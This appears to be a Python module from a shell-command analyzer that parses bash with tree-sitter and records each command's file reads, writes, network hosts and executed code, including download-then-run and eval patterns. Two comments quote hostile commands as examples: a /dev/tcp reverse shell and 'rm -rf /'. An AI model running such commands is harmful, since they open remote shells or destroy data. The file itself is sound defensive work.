"""Walk a tree-sitter-bash syntax tree and collect every simple command with its effects.

The walker finds commands wherever bash would run them: lists, pipelines, subshells,
compound statements, functions, command and process substitutions, here-docs fed to a shell,
``sh -c`` strings, ``eval`` of literals, ``find -exec`` and wrapped commands. A literal
``cd DIR`` changes the directory later relative paths resolve against, within its subshell.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

from tree_sitter import Node, Parser

from watchkeeper.normalize._action import CodeExec, ShellParse
from watchkeeper.normalize._cmd import Cmd, base_name, dedup, merge, short, source_kind
from watchkeeper.normalize._code import (
    DOWNLOADERS,
    code_of,
    is_decoder,
    is_temp_path,
)
from watchkeeper.normalize._code_variables import variable_code
from watchkeeper.normalize._effects import command_effects
from watchkeeper.normalize._fastlex import SimpleCommand, lex_simple
from watchkeeper.normalize._hosts import url_parts
from watchkeeper.normalize._paths import NON_FILES, each_found, resolve_path
from watchkeeper.normalize._printf import printf_text
from watchkeeper.normalize._variables import Variables
from watchkeeper.normalize._words import Word, is_leaf, node_text, resolve_word
from watchkeeper.normalize._wrappers import built_name, peel
from watchkeeper.normalize._xargs import XargsUse, commands, items, unseen_input, xargs_of

__all__ = ["MAX_COMMANDS", "MAX_DEPTH", "ShellWalker"]

MAX_DEPTH = 6
MAX_COMMANDS = 1000
_BLOCKS = frozenset(
    {
        "program", "list", "compound_statement", "do_group", "if_statement", "elif_clause",
        "else_clause", "while_statement", "for_statement", "c_style_for_statement",
        "case_statement", "case_item", "function_definition", "negated_command",
        "test_command", "declaration_command", "variable_assignment", "variable_assignments",
        "unset_command", "command_substitution", "process_substitution", "heredoc_body",
        "string", "concatenation", "expansion", "arithmetic_expansion", "binary_expression",
        "unary_expression", "ternary_expression", "parenthesized_expression",
        "subscript", "array", "herestring_redirect", "file_redirect", "ERROR",
    }
)  # fmt: skip
# Stands for every word of a line the fast lexer split: only `dynamic` is ever read from it.
_LITERAL = Word([""], dynamic=False)
_VARIABLE = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
_REDIRECTS = frozenset({"file_redirect", "heredoc_redirect", "herestring_redirect"})
# echo takes options only before its first other word: `echo -n rm -rf /` prints `rm -rf /`.
_ECHO_OPTIONS = re.compile(r"-[neE]+")


# tree-sitter-bash 0.25 can crash (SIGSEGV) on some lines with non-ASCII characters, so the
# parser only ever sees ASCII: each byte >= 0x80 becomes `A`, which is a word character just
# as every non-ASCII character is to bash. Offsets are unchanged; text comes from the
# original bytes.
_ASCII_ONLY = bytes.maketrans(bytes(range(0x80, 0x100)), b"A" * 0x80)


class _TooManyCommandsError(Exception):
    """Internal: the walk stops once a line holds more than `MAX_COMMANDS` commands."""


class ShellWalker:
    """Collects commands from one shell line; one walker per `parse` call."""

    def __init__(self, parser: Parser, *, home: str, cwd: str | None) -> None:
        self._parser = parser
        self._home = home
        self._cwd = cwd
        self._cmds: list[Cmd] = []
        self._code: list[CodeExec] = []
        self._detached: list[str] = []
        self._errors: list[str] = []
        self._downloaded: set[str] = set()
        self._wrappers: tuple[str, ...] = ()
        self._depth = 0
        self._taint: dict[str, str] = {}
        self._vars = Variables()
        self._src = b""

    # ----------------------------------------------------------------- entry points
    def parse(self, command: str) -> ShellParse:
        """Parse `command` and return everything found in it."""
        try:
            simple = lex_simple(command)
            if simple is None:
                self._parse_into(command, ())
            else:
                self._run_simple(simple)
        except _TooManyCommandsError:
            self._errors.append(
                f"shell line has over {MAX_COMMANDS} commands; the rest was not analysed"
            )
            self._code.append(CodeExec("unparsed", short(command)))
        return self._result()

    def _run_simple(self, pipelines: list[list[SimpleCommand]]) -> None:
        """Walk a line `lex_simple` understood: same results as the tree, far cheaper."""
        for pipeline in pipelines:
            groups: list[list[Cmd]] = []
            for simple in pipeline:
                start = len(self._cmds)
                words = [_LITERAL] * len(simple.argv)
                cmd = self._argv(list(simple.argv), words, {}, simple.text, ())
                targets = [] if cmd is None else [cmd] if cmd.nested is None else cmd.nested
                for op, dest in simple.redirects:
                    self._file_redirect(op, dest, targets)
                groups.append(self._cmds[start:])
            for index in range(1, len(groups)):
                heads = groups[index]
                if heads and heads[0].stdin is not None:
                    self._stdin_code(heads[0], [c for g in groups[:index] for c in g])

    def _parse_into(self, text: str, wrappers: tuple[str, ...]) -> None:
        if self._depth >= MAX_DEPTH:
            self._errors.append(f"shell nested deeper than {MAX_DEPTH} levels; not parsed")
            self._code.append(CodeExec("unparsed", short(text)))
            return
        source = text.encode("utf-8", "replace")
        tree = self._parser.parse(source if source.isascii() else source.translate(_ASCII_ONLY))
        root = tree.root_node
        if root.has_error:
            self._errors.append(f"shell syntax error in `{short(text)}`")
            self._code.append(CodeExec("unparsed", short(text)))
        saved = self._wrappers, self._cwd, self._src
        self._wrappers, self._src = wrappers, source
        self._depth += 1
        try:
            self._walk(root)
        finally:
            self._depth -= 1
            self._wrappers, self._cwd, self._src = saved

    def _result(self) -> ShellParse:
        commands = tuple(c.freeze() for c in self._cmds)
        if len(commands) == 1 and not self._code:
            only = commands[0]
            return ShellParse(
                commands=commands,
                reads=only.reads,
                writes=only.writes,
                hosts=only.hosts,
                urls=dedup(self._cmds[0].urls),
                code=only.code,
                detached=tuple(self._detached),
                errors=dedup(self._errors),
            )
        return ShellParse(
            commands=commands,
            reads=merge([c.reads for c in commands]),
            writes=merge([c.writes for c in commands]),
            hosts=merge([c.hosts for c in commands]),
            urls=merge([tuple(c.urls) for c in self._cmds]),
            code=merge([*(c.code for c in commands), tuple(self._code)]),
            detached=tuple(self._detached),
            errors=dedup(self._errors),
        )

    # ----------------------------------------------------------------- traversal
    def _collect(self, action: Callable[[], None]) -> list[Cmd]:
        start = len(self._cmds)
        action()
        return self._cmds[start:]

    def _text(self, node: Node) -> str:
        return node_text(node, self._src)

    def _word(self, node: Node) -> Word:
        return resolve_word(node, home=self._home, source=self._src)

    def _walk_collect(self, node: Node) -> list[Cmd]:
        start = len(self._cmds)
        self._walk(node)
        return self._cmds[start:]

    def _walk(self, node: Node) -> None:
        kind = node.type
        if kind == "command":
            self._command(node)
        elif kind == "redirected_statement":
            self._redirected(node)
        elif kind == "pipeline":
            self._pipeline(list(self._stages(node)))
        elif kind == "variable_assignment":
            self._assignment(node)
        elif kind in ("declaration_command", "unset_command"):
            self._declaration(node)
        elif kind == "subshell":
            saved = self._cwd
            self._children(node)
            self._cwd = saved
        elif kind == "file_redirect":
            # A redirection with no command: `$(<FILE)` is bash's `$(cat FILE)`.
            reads = next((c.type for c in node.children if not c.is_named), "") == "<"
            bare = self._argv(["cat" if reads else ":"], [], {}, self._text(node), self._wrappers)
            if bare is not None:
                self._apply_redirect(node, [bare])
        elif kind == "for_statement":
            self._for(node)
        elif kind in _BLOCKS or node.child_count:
            self._children(node)

    def _for(self, node: Node) -> None:
        """`for V in WORDS`: with literal words (at most 16) the body is walked once per word."""
        variable, body = node.child_by_field_name("variable"), node.child_by_field_name("body")
        items = [self._word(c) for c in node.children_by_field_name("value")]
        values = [f for w in items for f in w.fields]
        name = self._text(variable) if variable is not None else ""
        if body is not None and items and not any(w.dynamic for w in items) and len(values) <= 16:
            for value in values:
                self._vars.loop(name, value)
                self._walk(body)
        else:
            self._vars.unsettle(name)
            self._children(node)
        self._vars.unsettle(name)

    def _children(self, node: Node) -> None:
        children = node.children
        for index, child in enumerate(children):
            if not child.is_named:
                continue
            nxt = children[index + 1] if index + 1 < len(children) else None
            if nxt is not None and nxt.type == "&":
                for cmd in self._walk_collect(child):
                    cmd.detached = True
                self._detached.append("background &")
            else:
                self._walk(child)

    @staticmethod
    def _stages(node: Node) -> Iterator[Node]:
        for child in node.children:
            if child.is_named:
                yield child

    # ----------------------------------------------------------------- pipelines
    def _pipeline(self, stages: list[Node], first: list[Cmd] | None = None) -> list[Cmd]:
        """Walk pipeline stages; return the commands of the last stage."""
        groups: list[list[Cmd]] = [first] if first is not None else []
        for stage in stages:
            groups.append(self._walk_collect(stage))
        for index in range(1, len(groups)):
            heads = groups[index]
            if not heads or heads[0].stdin is None:
                continue
            feeders = [c for g in groups[:index] for c in g]
            self._stdin_code(heads[0], feeders)
        return groups[-1] if groups else []

    def _walk_tail(self, node: Node) -> list[Cmd]:
        """Walk `node`; return the commands a trailing redirection binds to.

        tree-sitter-bash hangs ``a | b > f`` and ``a && b > f`` on the whole pipeline or
        list, but bash binds the redirection to the last command only.
        """
        if node.type == "pipeline":
            return self._pipeline(list(self._stages(node)))
        if node.type == "list":
            parts = list(self._stages(node))
            for part in parts[:-1]:
                self._walk(part)
            return self._walk_tail(parts[-1]) if parts else []
        return self._walk_collect(node)

    def _stdin_code(self, head: Cmd, feeders: list[Cmd]) -> None:
        if head.xargs is not None:
            self._xargs_input(head, head.xargs, feeders)
            return
        kind = source_kind(feeders)
        if kind is not None:
            head.code.append(CodeExec(kind, short(head.text)))
            return
        last = feeders[-1] if feeders else None
        if last is not None and last.literal is not None and len(feeders) == 1:
            if head.stdin == "shell":
                found = self._nested(last.literal, (*head.wrappers, head.name + " <stdin"), head)
                self._carrier(head, found)
            else:
                head.code.append(CodeExec("inline", short(last.literal)))
            return
        if last is not None and last.cat_files:
            head.code.append(CodeExec("script", last.cat_files[0]))
            return
        head.code.append(CodeExec("eval", short(head.text)))

    def _nested(self, text: str, wrappers: tuple[str, ...], owner: Cmd) -> list[Cmd]:
        found = self._collect(lambda: self._parse_into(text, wrappers))
        for cmd in found:
            cmd.detached = cmd.detached or owner.detached
        return found

    # ----------------------------------------------------------------- redirections
    def _redirected(self, node: Node) -> None:
        body = node.child_by_field_name("body")
        redirects = [c for c in node.children if c.type in _REDIRECTS]
        continuation: list[Node] = []
        for redirect in redirects:
            if redirect.type == "heredoc_redirect":
                continuation.extend(
                    c
                    for c in redirect.named_children
                    if c.type not in ("heredoc_start", "heredoc_body", "heredoc_end")
                )
        cmds = self._walk_tail(body) if body is not None else []
        if body is None:
            # A bare `> FILE` truncates FILE like `: > FILE` does; keep it as that command.
            bare = self._argv([":"], [], {}, self._text(node), self._wrappers)
            cmds = [] if bare is None else [bare]
        for redirect in redirects:
            self._apply_redirect(redirect, cmds)
        for extra in continuation:
            if extra.type in _REDIRECTS:
                # `cat <<EOF > FILE`: the grammar nests the later redirection in the here-doc.
                shown = [n for c in cmds for n in (c.nested if c.nested is not None else [c])]
                self._apply_redirect(extra, shown)
            elif extra.type == "pipeline":
                self._pipeline(list(self._stages(extra)), first=cmds)
            else:
                self._walk(extra)

    def _apply_redirect(self, redirect: Node, cmds: list[Cmd]) -> None:
        head = cmds[0] if cmds else None
        if redirect.type == "heredoc_redirect":
            body = next((c for c in redirect.children if c.type == "heredoc_body"), None)
            if body is not None:
                self._children(body)
                if head is not None:
                    self._feed(head, self._text(body), None)
            return
        if redirect.type == "herestring_redirect":
            word_node = next((c for c in redirect.named_children), None)
            if word_node is None:
                return
            inner = self._walk_collect(word_node)
            word = self._word(word_node)
            if head is not None:
                self._feed(head, word.text, inner if word.dynamic else None)
            return
        dest = redirect.child_by_field_name("destination")
        if dest is None:
            return
        if dest.type == "process_substitution":
            self._walk(dest)
            return
        self._walk(dest)
        op = next((c.type for c in redirect.children if not c.is_named), ">")
        self._file_redirect(op, self._word(dest).text, cmds)

    def _file_redirect(self, op: str, dest: str, cmds: list[Cmd]) -> None:
        if op in (">&", "<&") and dest.isdigit():
            return
        path = self._path(dest)
        if path.startswith(("/dev/tcp/", "/dev/udp/")):
            # bash opens a socket for these: `bash -i >& /dev/tcp/HOST/PORT 0>&1`.
            host = path.split("/")[3].lower() if path.count("/") >= 3 else ""
            for cmd in cmds:
                if host:
                    cmd.hosts.append(host)
        if op in ("<", "<&"):
            targets = [c.reads for c in cmds]
            self._program_file(cmds[0] if cmds else None, path)
        else:
            targets = [c.writes for c in cmds] if path not in NON_FILES else []
        for target in targets:
            target.append(path)

    def _program_file(self, head: Cmd | None, path: str) -> None:
        """`head`'s standard input is the file `path`: a shell or interpreter runs it."""
        if head is None or head.stdin is None or path in NON_FILES:
            return
        if head.xargs is not None and not head.xargs.code:
            return
        if path in self._downloaded:
            head.code.append(CodeExec("download-exec", path))
        else:
            head.code.append(CodeExec("script", path))

    def _feed(self, head: Cmd, text: str, dynamic_inner: list[Cmd] | None) -> None:
        """Standard input `text` (a here-doc or here-string) reaches `head`."""
        if head.xargs is not None:
            if dynamic_inner is None:
                self._xargs_literal(head, head.xargs, text)
            elif head.xargs.code:
                head.code.append(CodeExec(source_kind(dynamic_inner) or "eval", short(text)))
            return
        if head.stdin is None:
            if head.name == "cat" and len(head.argv) == 1 and dynamic_inner is None:
                head.literal = text
            return
        if dynamic_inner is not None:
            kind = source_kind(dynamic_inner) or "eval"
            head.code.append(CodeExec(kind, short(text)))
        elif head.stdin == "shell":
            found = self._nested(text, (*head.wrappers, head.name + " <<"), head)
            self._carrier(head, found)
        else:
            head.code.append(CodeExec("inline", short(text)))

    # ----------------------------------------------------------------- commands
    def _path(self, word: str) -> str:
        if word.startswith("crontab:"):
            return word
        return resolve_path(word, cwd=self._cwd, home=self._home)

    def _command(self, node: Node) -> None:
        words: list[Word] = []
        inner: dict[int, list[Cmd]] = {}
        redirects: list[Node] = []
        for child in node.named_children:
            kind = child.type
            if kind == "variable_assignment":
                self._assignment(child)
            elif kind in _REDIRECTS:
                redirects.append(child)
            else:
                found = [] if is_leaf(child) else self._walk_collect(child)
                word = self._word(child)
                if word.dynamic and self._taint:
                    found.extend(self._tainted(word.text))
                if found:
                    inner[id(word)] = found
                words.append(word)
        argv: list[str] = []
        origin: list[Word] = []
        for index, word in enumerate(words):
            # Arguments only: a command name built from a variable stays as written (the
            # value could hold several words, `$COMPOSE up`, and the name is opaque anyway).
            filled = self._filled_in(word, inner) if word.dynamic and index else word
            words[index] = filled
            for piece in filled.fields:
                argv.append(piece)
                origin.append(filled)
        if not argv:
            return
        cmd = self._argv(argv, origin, inner, self._text(node), self._wrappers)
        if cmd is not None and self._vars.values:
            self._expanded_urls(cmd, words)
        targets = [] if cmd is None else [cmd] if cmd.nested is None else cmd.nested
        for redirect in redirects:
            self._apply_redirect(redirect, targets)

    def _filled_in(self, word: Word, inner: dict[int, list[Cmd]]) -> Word:
        """`word` with the line's known variables put in (see `Variables`); it stays
        dynamic, so it still counts as built at run time."""
        text = self._vars.fill_in(word.text) if len(word.fields) == 1 else None
        if text is None:
            return word
        result = Word([text], dynamic=True)
        if id(word) in inner:
            inner[id(result)] = inner.pop(id(word))
        return result

    def _expanded_urls(self, cmd: Cmd, words: list[Word]) -> None:
        """`U=https://h; curl $U` contacts `h`: scan the values of the variables a word expands."""
        for word in words:
            for value in self._vars.url_values(word.text) if word.dynamic else ():
                self._scan_urls(value, cmd)

    def _argv(
        self,
        argv: list[str],
        origin: list[Word],
        inner: dict[int, list[Cmd]],
        text: str,
        wrappers: tuple[str, ...],
    ) -> Cmd | None:
        peeled = peel(argv)
        start = peeled.start
        if peeled.replaced is not None:
            argv, origin, start = peeled.replaced or argv, [], 0
        elif start >= len(argv) and peeled.positions and peeled.shell_text is None:
            start = peeled.positions.pop()
            peeled.wrappers.pop()
        body = argv[start:] if start < len(argv) else argv[-1:]
        head_word = built_name(origin, start, peeled)
        dynamic_name = head_word is not None and head_word.dynamic
        name = base_name(body[0]) if body else ""
        cmd = Cmd(argv=list(body), name=name, text=text)
        cmd.wrappers = (*wrappers, *peeled.wrappers)
        if len(self._cmds) >= MAX_COMMANDS:
            raise _TooManyCommandsError
        self._cmds.append(cmd)
        if peeled.detached:
            cmd.detached = True
            self._detached.extend(peeled.detached)
        for name, value in peeled.assigned:
            self._code_variable(name, value)
        if peeled.reads or peeled.writes:
            cmd.reads.extend(self._path(p) for p in peeled.reads)
            cmd.writes.extend(self._path(p) for p in peeled.writes)
        for word in argv:
            if "://" in word:
                self._scan_urls(word, cmd)
        if dynamic_name and head_word is not None:
            kind = source_kind(inner.get(id(head_word), [])) or "dynamic-name"
            cmd.code.append(CodeExec(kind, short(head_word.text)))
        if peeled.shell_text is not None:
            wrapper_word = origin[peeled.shell_words[0]] if origin else None
            lo, hi = peeled.shell_words
            dyn = [w for w in origin[lo:hi] if w.dynamic] if hi > lo else []
            if dyn or (wrapper_word is not None and wrapper_word.dynamic and hi > lo):
                found = [c for w in dyn for c in inner.get(id(w), [])]
                cmd.code.append(CodeExec(source_kind(found) or "eval", short(text)))
                if start >= len(argv):
                    return cmd  # it stands for the string it runs, which is unknown
                found = []
            else:
                found = self._nested(peeled.shell_text, cmd.wrappers, cmd)
            if start >= len(argv):
                # The wrapper only carried the string; what it knew of its own name
                # (`$w new -d CMD` built at run time) goes to what it runs.
                for inner_cmd in found:
                    inner_cmd.code[:0] = cmd.code
                self._cmds.remove(cmd)
                return None
        words = origin[start:]
        self._effects(cmd, words)
        xargs = xargs_of(argv, start, peeled, wrappers)
        if xargs is None or not xargs.code:
            # When xargs's input is the program, the words here are only its frame: what
            # runs is decided where the input is known (`_xargs_input`).
            self._code_use(cmd, words, inner)
        if xargs is not None and cmd.nested is None:
            self._xargs_head(cmd, xargs)
        return cmd

    # ----------------------------------------------------------------- xargs
    def _xargs_head(self, cmd: Cmd, use: XargsUse) -> None:
        """`cmd` runs under `use`: its standard input is xargs's, not its own."""
        if use.arg_file is not None:
            if use.code:
                cmd.code.append(CodeExec("script", self._path(use.arg_file)))
            return
        cmd.xargs = use
        cmd.stdin = "xargs"

    def _xargs_input(self, head: Cmd, use: XargsUse, feeders: list[Cmd]) -> None:
        """`feeders` write xargs's input: parse what it runs, or flag input it runs unseen."""
        literal = feeders[0].literal if len(feeders) == 1 else None
        if literal is not None and source_kind(feeders) is None:
            self._xargs_literal(head, use, literal)
            return
        code = unseen_input(use, feeders, short(head.text))
        if code is not None:
            head.code.append(code)

    def _xargs_literal(self, head: Cmd, use: XargsUse, text: str) -> None:
        """xargs's input is the literal `text`: parse the commands it makes."""
        found = items(text, use.delimiter, use.replace)
        lines = None if found is None else commands(use, found)
        if lines is None:
            if use.code:
                head.code.append(CodeExec("eval", short(head.text)))
            return
        ran = [c for line in lines for c in self._nested(line, use.outer, head)]
        self._carrier(head, ran)

    def _effects(self, cmd: Cmd, words: list[Word]) -> None:
        """Fill reads, writes, hosts and the pipe roles of `cmd` from its argv."""
        name, body = cmd.name, cmd.argv
        fx = command_effects(name, body)
        if fx.reads:
            cmd.reads.extend(self._path(p) for p in fx.reads)
        if fx.writes:
            cmd.writes.extend(self._path(p) for p in fx.writes if p not in NON_FILES)
        if fx.hosts:
            cmd.hosts.extend(fx.hosts)
        cmd.downloads = fx.downloads or name in DOWNLOADERS
        if cmd.downloads:
            self._downloaded.update(cmd.writes)
        cmd.decodes = is_decoder(name, body)
        literal = not cmd.decodes and not any(w.dynamic for w in words[1:])
        if name in ("echo", "printf") and literal:
            args = body[1:]
            if name == "echo":
                while args and _ECHO_OPTIONS.fullmatch(args[0]):
                    args = args[1:]
            rendered = printf_text(args) if name == "printf" else None
            cmd.literal = " ".join(args) if rendered is None else rendered
        if name == "cat":
            cmd.cat_files = list(cmd.reads)
        if name in ("cd", "pushd"):
            self._change_dir(body, words[1:])
        self._vars.command(name, body)
        if name == "disown":
            cmd.detached = True
            self._detached.append("disown")
        if "/" in body[0] and self._path(body[0]) in self._downloaded:
            cmd.code.append(CodeExec("download-exec", self._path(body[0])))
        if name == "find":
            self._find_exec(cmd, body)

    def _code_use(self, cmd: Cmd, words: list[Word], inner: dict[int, list[Cmd]]) -> None:
        """Record the code `cmd` runs; parse shell strings it carries."""
        body = cmd.argv
        use = code_of(cmd.name, body)
        cmd.stdin = use.stdin
        if cmd.name in ("at", "batch") and use.stdin is not None:
            cmd.detached = True
            self._detached.append(cmd.name)
        cmd.reads.extend(self._path(p) for p in use.file_reads)
        cmd.writes.extend(self._path(p) for p in use.file_writes)
        for kind, detail in use.inline:
            cmd.code.append(CodeExec(kind, short(detail)))
        for text, label in use.shell_texts:
            self._nested(text, (*cmd.wrappers, label), cmd)

        def word_at(index: int) -> Word | None:
            return words[index] if index < len(words) else None

        for index, label in use.shell:
            word = word_at(index)
            if word is not None and word.dynamic:
                kind = source_kind(inner.get(id(word), [])) or "eval"
                cmd.code.append(CodeExec(kind, short(word.text)))
            else:
                found = self._nested(body[index], (*cmd.wrappers, label), cmd)
                if label != "trap":
                    self._carrier(cmd, found)
        if use.eval_words is not None:
            lo, hi = use.eval_words
            evaluated = words[lo:hi]
            if any(w.dynamic for w in evaluated):
                found = [c for w in evaluated for c in inner.get(id(w), [])]
                cmd.code.append(CodeExec(source_kind(found) or "eval", short(cmd.text)))
            else:
                found = self._nested(" ".join(body[lo:hi]), (*cmd.wrappers, "eval"), cmd)
                self._carrier(cmd, found)
        for operand, is_source in ((use.script, False), (use.source, True)):
            if operand is not None:
                self._script(cmd, body[operand], word_at(operand), inner, source=is_source)
        if use.script_detail is not None:
            path = self._path(use.script_detail)
            cmd.reads.append(path)
            cmd.code.append(CodeExec("script", path))

    def _declaration(self, node: Node) -> None:
        """`export`/`declare`/`local`/`readonly`/`typeset`/`unset` are commands too."""
        argv: list[str] = []
        words: list[Word] = []
        for child in node.children:
            if not child.is_named:
                if not argv:
                    argv.append(self._text(child))
                    words.append(Word([argv[0]], dynamic=False))
                continue
            if child.type == "variable_assignment":
                self._assignment(child)
                word = self._assignment_word(child)
            else:
                self._walk(child)
                word = self._word(child)
            argv.extend(word.fields)
            words.extend(word for _ in word.fields)
        if argv:
            self._argv(argv, words, {}, self._text(node), self._wrappers)

    def _assignment_word(self, node: Node) -> Word:
        """`NAME='v a l'` as bash passes it to `export`: one argument, quotes removed."""
        name = node.child_by_field_name("name")
        value = node.child_by_field_name("value")
        if name is None or value is None:
            return Word([self._text(node)], dynamic=False)
        resolved = self._word(value)
        return Word([f"{self._text(name)}={resolved.text}"], dynamic=resolved.dynamic)

    def _assignment(self, node: Node) -> None:
        """Remember variables assigned from downloaded or decoded data."""
        found = self._collect(lambda: self._children(node))
        name = node.child_by_field_name("name")
        if name is None:
            return
        value = node.child_by_field_name("value")
        if value is not None and value.type not in ("word", "number", "raw_string"):
            found = [*found, *self._tainted(self._text(value))]
        literal: str | None = None
        if value is not None and value.type in ("word", "raw_string", "string", "number"):
            resolved = self._word(value)
            literal = None if resolved.dynamic else resolved.text
        self._vars.assign(self._text(name), literal)
        self._code_variable(self._text(name), literal)
        kind = source_kind(found)
        if kind is not None:
            self._taint[self._text(name)] = kind
        else:
            self._taint.pop(self._text(name), None)

    def _code_variable(self, name: str, value: str | None) -> None:
        """`NAME=value` that makes programs run code: parse the command line or keep it opaque."""
        opaque, program = variable_code(name, value, self._cwd)
        if opaque is not None:
            self._code.append(CodeExec("eval", short(opaque)))
        elif program is not None:
            self._parse_into(program, (*self._wrappers, name + "="))

    def _tainted(self, text: str) -> list[Cmd]:
        """Stand-ins for the sources of tainted variables that `text` expands."""
        out: list[Cmd] = []
        for var in _VARIABLE.findall(text):
            kind = self._taint.get(var)
            if kind is not None:
                out.append(
                    Cmd(
                        argv=[],
                        name="",
                        text="",
                        downloads=kind == "download-exec",
                        decodes=kind == "decode-exec",
                    )
                )
        return out

    def _carrier(self, cmd: Cmd, found: list[Cmd]) -> None:
        """`cmd` only carried a shell string: its commands stand for it from now on."""
        cmd.nested = found
        if cmd in self._cmds:
            self._cmds.remove(cmd)
        for inner in found:
            inner.reads[:0] = cmd.reads
            inner.writes[:0] = cmd.writes
            inner.hosts[:0] = cmd.hosts
            inner.urls[:0] = cmd.urls
            inner.code[:0] = cmd.code

    def _script(
        self,
        cmd: Cmd,
        operand: str,
        word: Word | None,
        inner: dict[int, list[Cmd]],
        *,
        source: bool,
    ) -> None:
        if word is not None and word.dynamic:
            kind = source_kind(inner.get(id(word), [])) or "eval"
            cmd.code.append(CodeExec(kind, short(word.text)))
            return
        if "://" in operand:
            cmd.code.append(CodeExec("download-exec", operand))
            return
        path = self._path(operand)
        if path not in cmd.reads:
            cmd.reads.append(path)
        if path in self._downloaded:
            cmd.code.append(CodeExec("download-exec", path))
        elif source and is_temp_path(path):
            cmd.code.append(CodeExec("eval", path))
        else:
            cmd.code.append(CodeExec("script", path))

    def _find_exec(self, cmd: Cmd, body: list[str]) -> None:
        i = 0
        while i < len(body):
            flag = body[i]
            if flag in ("-exec", "-execdir", "-ok", "-okdir"):
                end = i + 1
                while end < len(body) and body[end] not in (";", "+"):
                    end += 1
                sub = body[i + 1 : end]
                if sub:
                    found = self._argv(sub, [], {}, " ".join(sub), (*cmd.wrappers, "find " + flag))
                    if found is not None:
                        roots = [r.rstrip("/") + "/**" for r in cmd.reads]
                        found.reads = each_found(found.reads, roots)
                        found.writes = each_found(found.writes, roots)
                i = end
            i += 1

    def _change_dir(self, body: list[str], words: list[Word]) -> None:
        operands = [a for a in body[1:] if not a.startswith("-") or a == "-"]
        if any(w.dynamic for w in words) or operands[:1] == ["-"]:
            self._cwd = None
        elif not operands:
            self._cwd = self._home
        else:
            target = self._path(operands[0])
            self._cwd = target if target.startswith("/") else None

    def _scan_urls(self, word: str, cmd: Cmd) -> None:
        for url, host, path in url_parts(word):
            cmd.urls.append(url)
            cmd.hosts.extend(host)
            cmd.reads.extend(self._path(p) for p in path)
